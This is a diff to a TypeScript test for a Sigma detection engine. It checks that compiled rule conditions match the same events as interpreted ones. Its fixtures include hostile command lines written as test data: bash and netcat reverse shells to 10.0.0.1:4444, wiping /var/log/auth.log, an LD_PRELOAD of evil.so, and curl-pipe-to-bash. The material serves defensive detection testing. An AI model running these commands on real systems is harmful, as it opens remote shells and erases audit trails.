@@ -89,9 +89,10 @@ detection: { x: { type: EXECVE, a0: ptrace }, y: { type: SYSCALL, SYSCALL: ptrac
     expect(titles(syscall)).toEqual(['either', 'ptrace']);
   });
 
-  it('finds exactly what running every rule finds (own pack + SigmaHQ Linux)', () => {
+  it('finds exactly what running every rule finds, compiled or interpreted (own pack + SigmaHQ Linux)', () => {
     const folders = [join(process.cwd(), 'rules', 'sigma'), join(CORPORA, 'sigma-linux', 'rules', 'linux'), join(CORPORA, 'sigma-linux-extra')].filter(existsSync);
-    const { rules, correlations } = loadRules(readRuleFolders(folders).sources);
+    const { sources } = readRuleFolders(folders);
+    const { rules, correlations } = loadRules(sources);
     // Exec events from the bench's generator, plus look-alikes of what the rules are about.
     const events = execEventSource(4000, 3).next(4000).map((e, i) => ({ ...e, id: i + 1 }) as TelemetryEvent);
     const lines = ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'nc -e /bin/sh 10.0.0.1 4444', 'busybox nc 1.2.3.4 80 -e sh', ': > /var/log/auth.log',
@@ -119,8 +120,8 @@ detection: { x: { type: EXECVE, a0: ptrace }, y: { type: SYSCALL, SYSCALL: ptrac
     }
     // List fields (environment, argv) are scanned too.
     events.push({ ...events[0]!, id: 20_000, process: { ...events[0]!.process, env_vars: ['HOME=/root', 'LD_PRELOAD=/tmp/x/evil.so'] } } as TelemetryEvent);
-    const run = (prefilter: boolean) => {
-      const engine = new SigmaEngine(rules, correlations, { prefilter });
+    const run = (prefilter: boolean, loaded = { rules, correlations }) => {
+      const engine = new SigmaEngine(loaded.rules, loaded.correlations, { prefilter });
       return events.flatMap((e) => engine.evaluate(e).map((f) => `${f.event.id}:${f.rule.id}`));
     };
     const fast = run(true);
@@ -131,5 +132,7 @@ detection: { x: { type: EXECVE, a0: ptrace }, y: { type: SYSCALL, SYSCALL: ptrac
     expect(fast.some((f) => f.startsWith('4000'))).toBe(true);
     expect(fast.filter((f) => f.startsWith('5')).length).toBeGreaterThan(2500); // curl ... | bash: each is found
     expect(fast).toEqual(run(false));
+    // Conditions compiled to functions (compiled.ts) find what the interpreted trees find.
+    expect(fast).toEqual(run(false, loadRules(sources, { interpret: true })));
   });
 });
